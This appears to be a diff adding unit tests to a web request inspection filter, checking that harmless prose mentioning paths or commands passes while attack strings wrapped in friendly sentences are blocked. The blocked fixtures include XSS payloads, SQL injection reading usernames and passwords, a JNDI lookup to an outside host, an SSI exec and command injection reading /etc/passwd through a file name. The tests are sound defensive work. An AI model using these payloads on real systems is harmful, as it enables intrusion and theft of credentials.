@@ -204,6 +204,50 @@ private Q_SLOTS:
             QVERIFY2(!inspect(PartKind::Json, "{\"profile\":{\"note\":\"" + text + "\"}}").blocked, text.c_str());
     }
 
+    /// Whoever writes about a path, a command or an address isn't sending one: sentences around it tell, where people write.
+    void whatIsWrittenAbout_isOnlyMentioned()
+    {
+        constexpr auto mentions = std::to_array<std::string_view>({
+            "ping -c 3 10.0.0.1 shows 100% packet loss since this morning, other hosts answer fine.",
+            "I had to vi /etc/hosts and add the second line again.",
+            "Is it normal that /etc/passwd lists a user for games? Our auditor asks why.",
+            "The wiki has moved to http://10.1.2.3/wiki, please update your bookmarks.",
+            "Our template starts with <?php and then the theme prints a blank line.",
+            "The job is in cron: 0 3 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1\nbut since Sunday it does not "
+            "run.",
+            "FROM debian:12\nRUN apt-get update && apt-get install -y curl\nCOPY . /app\nCMD [\"/app/run.sh\"]",
+        });
+        Options strict;
+        strict.strictness = 3;
+        for (const std::string_view text : mentions) {
+            QVERIFY2(!inspect(PartKind::Text, text).blocked, text.data());
+            QVERIFY2(inspect(PartKind::Text, text, strict).score >= inspect(PartKind::Text, text).score, text.data());
+        }
+        // One who asks for everything gets it.
+        QVERIFY(inspect(PartKind::Text, "Is it normal that /etc/passwd lists a user for games?", strict).blocked);
+        // A parameter has no sentences to tell of it.
+        QVERIFY(inspect(PartKind::Query, "q=is+it+normal+that+/etc/passwd+lists+a+user+for+games").blocked);
+    }
+
+    /// Words around it don't hide what works wherever it stands, nor what goes on in somebody else's text.
+    void wordsAroundAnAttack_dontHideIt()
+    {
+        for (const std::string_view text : {
+                 "Great article, thank you very much! <script>alert(1)</script>",
+                 "Please look at this nice picture of my cat <img src=x onerror=alert(1)> and tell me",
+                 "Please press this button here <button onclick=\"eval(name)\">Save</button> to go on",
+                 "The old page has <link rel=\"stylesheet\" href=\"//a.example/x.css\"> in its head",
+                 "see our new page <script src=\"/\\a.example/x.js\"></script> for more of it",
+                 "my name is Bob Smith' OR '1'='1",
+                 "hello my dear friend' UNION SELECT username, password FROM users--",
+                 "Please look at this ${jndi:ldap://a.example/b} and tell me what it is",
+                 "Please read this <!--#exec cmd=\"id\"--> for me and tell",
+                 "; cat /etc/passwd please and then tell me more",
+                 "report.pdf; cat /etc/passwd",
+             })
+            QVERIFY2(inspect(PartKind::Text, text).blocked, text.data());
+    }
+
     void headers_tokensAreNotRead()
     {
         QVERIFY(inspect(PartKind::Header, "Bearer ' or 1=1 --", {}, "Authorization").hits.empty());
